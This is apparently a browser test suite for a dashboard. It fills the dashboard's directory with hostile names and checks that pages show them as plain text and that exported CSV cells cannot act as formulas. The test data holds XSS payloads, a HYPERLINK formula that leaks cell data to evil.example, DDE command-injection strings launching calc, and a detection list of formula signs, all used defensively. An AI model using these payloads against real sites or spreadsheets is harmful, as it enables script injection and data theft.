"""A directory whose every name is an attack: on each page it is text, and in the CSV it is data."""

import csv
import io
from collections.abc import Callable, Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import Connection, text

from lib.domain import clock
from lib.domain.ids import new_id
from lib.domain.roles import Grant, Role
from lib.operations.database import open_database
from lib.operations.imports.import_directory import import_into
from lib.operations.imports.parse import parse
from lib.store import grant_queries
from lib.store.engine import writing
from tests.browser.browsing import Browsing, rows_of
from tests.browser.conftest import Server

pytestmark = pytest.mark.browser
MARKDOWN = (
    "![i](https://evil.example/i.png) [link](https://evil.example) <https://evil.example> "
    ":red[x] :material/delete: $x$ `c` **b** # h"
)
HTML = (
    "<script>alert(1)</script><img src=https://evil.example/p onerror=alert(2)>"
    '<a href="https://evil.example">a</a>'
)
ADDRESSES = "www.evil.example https://evil.example/x me@evil.example"
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
SERVICE = "erecording"
PEOPLE = [
    ("![u](https://evil.example/u)", MARKDOWN, "=1+1@evil.example"),
    ("https://evil.example/u1", HTML, "<script>alert(1)</script>@evil.example"),
    ("www.evil.example", ADDRESSES, "![e](https://evil.example/e.png)@evil.example"),
    ("=cmd|'/C-calc'!A0", FORMULA, "@evil.example".rjust(20, "+")),
    ("@SUM(1)", "+1;=2", "-a@evil.example"),
    ("-2+3", "-2+3", "a@b;=cmd"),
    ("\u200fmarks\u200e", "\u200f=1+1 \u05d0\u05d1", "%1@evil.example"),
    ("long", "=" + "x" * 199, "long@evil.example"),
    ("\uff1dwide", "\uff1d1+1", "\uff0bw@evil.example"),
    ("inactive<img/src=x>", f"{HTML} {MARKDOWN}"[:200], "i@evil.example"),
]
ORGANIZATION = f"{HTML[:60]} {MARKDOWN} {ADDRESSES}"[:200]
SERVICE_NAME = "=1+1 <script>alert(1)</script><img src=x onerror=alert(2)>"
FACTS = (
    *("contact_person", "primary_recorder", "address", "telephone", "fax", "web_page"),
    *("hours", "document_types"),
)
LICENCE = (
    "license_number",
    "plan",
    "notify_recorded",
    "notify_rejected",
    "notify_fees",
    "notify_to",
)
SIGNS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOW_MANY = 500
A_PAGE = 25
PLACE = f"org=EVIL01&service={SERVICE}"
PAGES = (
    *("organizations", f"contact?{PLACE}", f"services?{PLACE}", f"license?{PLACE}"),
    *(f"notifications?{PLACE}", f"api-tokens?{PLACE}", "coverage", "my-api-tokens", "help"),
    *("activity", "recall", "access", f"activity?person={quote(PEOPLE[0][0])}"),
    f"activity?person={quote(ADDRESSES)}",
    f"contact?org={quote(MARKDOWN)}",
    f"license?org=EVIL01&service={quote(HTML)}",
    f"api-tokens?org={quote(ADDRESSES)}&service={SERVICE}",
)
OURS_ONLY = """() => [
    ...document.querySelectorAll('img[src^="http"]:not([src^="' + location.origin + '"])'),
    ...document.querySelectorAll('a[href*="evil"], [href^="javascript"], iframe, object, embed'),
    ...document.querySelectorAll('[onerror], [onload]'),
    ...[...document.scripts].filter(script => /evil|alert/.test(script.text + script.src)),
].map(element => element.outerHTML).concat(window.refusedByPolicy)"""
WATCH = """window.refusedByPolicy = [];
document.addEventListener('securitypolicyviolation',
    e => window.refusedByPolicy.push(e.blockedURI))"""


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory, serve: Callable[[str], Server]) -> Server:
    """A dashboard on that directory."""
    database = f"sqlite:///{tmp_path_factory.mktemp('evil') / 'evil.db'}"
    engine = open_database(database)
    files = {name: parse(name, _sheet(rows)) for name, rows in _files().items()}
    with writing(engine) as connection:
        report = import_into(connection, files, clock.now())
        assert report.all_taken
        # The importer refuses what turns the reading direction round: it may still be stored.
        connection.execute(
            text("UPDATE member SET name = name || :mark WHERE username = 'long'"),
            {"mark": "\u202e\u2066evil"},
        )
        add_many(connection, HOW_MANY)
        now = clock.now()
        everywhere = Grant(Role.ADMINISTRATOR)
        grant_queries.add_grant(connection, new_id(now), "root", everywhere, now, MARKDOWN)
    engine.dispose()
    return serve(database)


def add_many(connection: Connection, many: int) -> None:
    """Add so many people with a role in so many organizations, every name of both an attack."""
    now = clock.now()
    names = hostile(many)
    organizations, people = [], []
    for number, name in enumerate(names):
        place = {"type": "submitter", "status": "active", "state": "UT"}
        organizations.append({"organization_id": f"H{number:05}", "name": name, **place})
        email = f"{number}@example.com"
        who = {"username": username(number, name), "name": name, "email": email}
        people.append({**who, "organization_id": "", "status": "active"})
    files = {
        "organizations": parse("organizations", _sheet(organizations)),
        "users": parse("users", _sheet(people)),
    }
    assert import_into(connection, files, now).all_taken
    for number, person in enumerate(people):
        grant = Grant(Role.ANALYST, f"H{number:05}")
        grant_queries.add_grant(connection, new_id(now), person["username"], grant, now, "root")


def username(number: int, name: str) -> str:
    """Return a username that has as much of the name as the importer takes."""
    return f"{number}{''.join(name.split())[:80]}"


def hostile(many: int) -> list[str]:
    """Return so many different names: each kind of attack inside each kind of text."""
    inside = (
        *("{}", "a {} b", "**{}**", "[{}](x)", "`{}`", "# {}", "> {}", "- {}", "1. {}", "|{}|"),
        *(
            "<b>{}</b>",
            '"{}"',
            "'{}'",
            "&{};",
            "\\{}",
            "{}\\",
            "${}$",
            ":red[{}]",
            "~~{}~~",
            "({})",
        ),
    )
    attacks = (
        *(
            "![i](https://evil.example/i.png)",
            "[l](https://evil.example)",
            "<https://evil.example>",
        ),
        *("<script>alert(1)</script>", "<img src=https://evil.example/p onerror=alert(1)>"),
        *('<a href="https://evil.example">a</a>', "<iframe src=https://evil.example></iframe>"),
        *("javascript:alert(1)", "www.evil.example", "https://evil.example/x", "me@evil.example"),
        *("=1+1", "@SUM(A1)", "+cmd|'/C calc'!A0", ":material/delete:", ":red-badge[x]", "$x^2$"),
        *(
            "<style>@import url(https://evil.example)</style>",
            "{{{{7*7}}}}",
            "%00%0a",
            "\u05d0\u05d1=",
        ),
        *(
            "&lt;img src=x onerror=alert(1)&gt;",
            "<svg onload=alert(1)>",
            "![x][y]",
            "[y]: https://evil.example",
        ),
    )
    every = [text.format(attack) for attack in attacks for text in inside]
    assert many <= len(set(every))
    return list(dict.fromkeys(every))[:many]


def _files() -> dict[str, list[dict[str, str]]]:
    name = {"name": ORGANIZATION, "type": "recipient", "status": "active", "state": MARKDOWN[:60]}
    users = [
        {"username": u, "name": n, "email": e, "organization_id": "EVIL01", "status": "active"}
        for u, n, e in PEOPLE
    ]
    users[-1]["status"] = "inactive"
    staff = {"username": "root", "name": MARKDOWN[:90], "email": "", "status": "active"}
    return {
        "services": [{"service": SERVICE, "name": SERVICE_NAME}],
        "organizations": [
            {"organization_id": "EVIL01", **name, **dict.fromkeys(FACTS, f"{MARKDOWN} {HTML}")}
            | {"web_page": "javascript:alert(1)"}
        ],
        "subscriptions": [
            {"organization_id": "EVIL01", "service": SERVICE, "status": "active"}
            | dict.fromkeys(LICENCE, f"{ADDRESSES} {MARKDOWN}")
        ],
        "users": [*users, staff | {"organization_id": ""}],
    }


def _sheet(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


@pytest.fixture
def tab(new_tab: Callable[..., Browsing], evil: Server) -> Iterator[Browsing]:
    """A tab in which, to the end, nothing but our own server is asked and no box pops up."""
    tab = new_tab(evil.address)
    foreign: list[str] = []
    boxes: list[str] = []

    def note(url: str) -> None:
        if not url.startswith((evil.address, "data:", "blob:")):
            foreign.append(url)

    tab.page.add_init_script(WATCH)
    tab.page.on("request", lambda request: note(request.url))
    tab.page.on("dialog", lambda box: (boxes.append(box.message), box.dismiss()))
    yield tab
    expect_text_only(tab.page)
    assert foreign == []
    assert boxes == []


def expect_text_only(page: Page) -> None:
    """Expect that no name has become an element, and that the policy had nothing to refuse."""
    assert page.evaluate(OURS_ONLY) == []
    expect(page.get_by_test_id("stException")).to_have_count(0)


def test_names_are_text_on_every_page(tab: Browsing) -> None:
    """With addresses of the same kind typed by hand."""
    for path in PAGES:
        tab.open(path)
        expect_text_only(tab.page)
    expect(tab.page.get_by_text("evil.example").first).to_be_visible()


def page_through(tab: Browsing, pages: int) -> int:
    """Turn every page of a list; return how many there were."""
    seen = 1
    expect_text_only(tab.page)
    while seen < pages:
        tab.page.get_by_role("button", name="Next page").click()
        tab.settle()
        expect_text_only(tab.page)
        seen += 1
    return seen


@pytest.mark.parametrize("names", [3 * A_PAGE, pytest.param(HOW_MANY + 1, marks=pytest.mark.soak)])
def test_names_in_the_lists(tab: Browsing, names: int) -> None:
    """Of organizations on Organizations, of people and organizations on Access."""
    for path in ("organizations", "access"):
        tab.open(path)
        pages = page_through(tab, -(-names // A_PAGE))
        print(f"{path}: {names} names on {pages} pages, 0 added nodes, 0 requests elsewhere")


@pytest.mark.soak
def test_five_hundred_people_and_places(tab: Browsing) -> None:
    """Each organization's own page, and each person's."""
    for number, name in enumerate(hostile(HOW_MANY)):
        for path in (
            f"contact?org=H{number:05}",
            f"activity?person={quote(username(number, name), safe='')}",
        ):
            tab.open(path)
            expect_text_only(tab.page)
    print(f"{HOW_MANY} organizations and people: 0 added nodes, 0 requests elsewhere")


@pytest.mark.parametrize("number", range(0, HOW_MANY, 100))
def test_some_people_and_places(tab: Browsing, number: int) -> None:
    """One in a hundred of them; the soak opens all."""
    name = hostile(HOW_MANY)[number]
    tab.open(f"contact?org=H{number:05}")
    expect_text_only(tab.page)
    tab.open(f"activity?person={quote(username(number, name), safe='')}")
    expect_text_only(tab.page)


def test_a_services_name_is_text_in_the_menu(tab: Browsing, evil: Server) -> None:
    """Also where it is the way back."""
    engine = open_database(evil.database)
    with writing(engine) as connection:
        connection.execute(text("UPDATE service SET name = :name"), {"name": MARKDOWN})
    try:
        for path in PAGES[2:6]:
            tab.open(path)
            expect_text_only(tab.page)
    finally:
        tab.open("help")
        with writing(engine) as connection:
            connection.execute(text("UPDATE service SET name = :name"), {"name": SERVICE_NAME})
        engine.dispose()


def test_names_are_text_in_what_is_typed(tab: Browsing) -> None:
    """In searches without a hit, and as the username of somebody unknown."""
    tab.open("organizations")
    field = tab.page.get_by_label("Search", exact=True)
    field.fill(f"{ADDRESSES} {MARKDOWN} {HTML}")
    field.press("Enter")
    tab.settle()
    expect(tab.page.get_by_text("No organization matches")).to_be_visible()
    expect_text_only(tab.page)
    tab.open(f"api-tokens?{PLACE}")
    tab.search(f"{ADDRESSES} {MARKDOWN} nobody")
    expect(tab.page.get_by_text("No users match")).to_be_visible()
    expect_text_only(tab.page)
    tab.pick("Signed in as", f"{ADDRESSES} {MARKDOWN}")
    expect(tab.page.get_by_text("There is no user")).to_be_visible()


def test_a_user_sees_their_organizations_name_as_text(tab: Browsing) -> None:
    """On My API tokens, in the list and in the question before a decline."""
    tab.open(f"api-tokens?{PLACE}")
    tab.click(f"Select all {len(PEOPLE)} matching")
    tab.pick("Actions", "Add New Tokens")
    expect(tab.dialog().get_by_text("1 is skipped")).to_be_visible()
    expect_text_only(tab.page)
    tab.click("Confirm")
    expect(tab.page.get_by_text("9 new tokens requested")).to_be_visible()
    expect_text_only(tab.page)
    with tab.page.expect_download() as results:
        tab.button("Download results").click()
    cells = [cell for row in rows_of(results.value) for cell in row.values()]
    assert [cell for cell in cells if runs(cell)] == []
    tab.pick("Signed in as", "www.evil.example")
    tab.menu("My API tokens")
    tab.click("Decline")
    expect(tab.dialog()).to_be_visible()
    tab.picture("hostile-decline")


def test_names_are_text_in_the_confirmations_and_data_in_the_csv(tab: Browsing) -> None:
    """No cell of the CSV is run by a spreadsheet; the names are there as written."""
    tab.open(f"api-tokens?{PLACE}")
    tab.click(f"Select all {len(PEOPLE)} matching")
    tab.pick("Actions", "Generate & Export Tokens")
    expect(
        tab.dialog().get_by_text("10 selected: 9 get a new token, 1 is skipped.")
    ).to_be_visible()
    expect_text_only(tab.page)
    tab.picture("hostile-confirm-1")
    tab.type_to_confirm(9)
    expect_text_only(tab.page)
    tab.picture("hostile-confirm-2")
    with tab.page.expect_download() as started:
        tab.button("Replace tokens and download CSV").click()
    expect(tab.page.get_by_text("9 tokens generated and exported")).to_be_visible()
    tab.picture("hostile-receipt")
    rows = rows_of(started.value)
    assert started.value.suggested_filename.startswith(f"EVIL01-{SERVICE}-")
    assert {row["Username"].removeprefix("'") for row in rows} == {u for u, _, _ in PEOPLE[:-1]}
    assert {row["Organization"] for row in rows} == {ORGANIZATION}
    assert [cell for row in rows for cell in row.values() if runs(cell)] == []


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet could take a cell for a formula, or a part cut at a semicolon."""
    parts = cell.replace("\r", ";").replace("\n", ";").split(";")
    return any(part.lstrip(' \u00a0"').startswith(SIGNS) for part in parts)
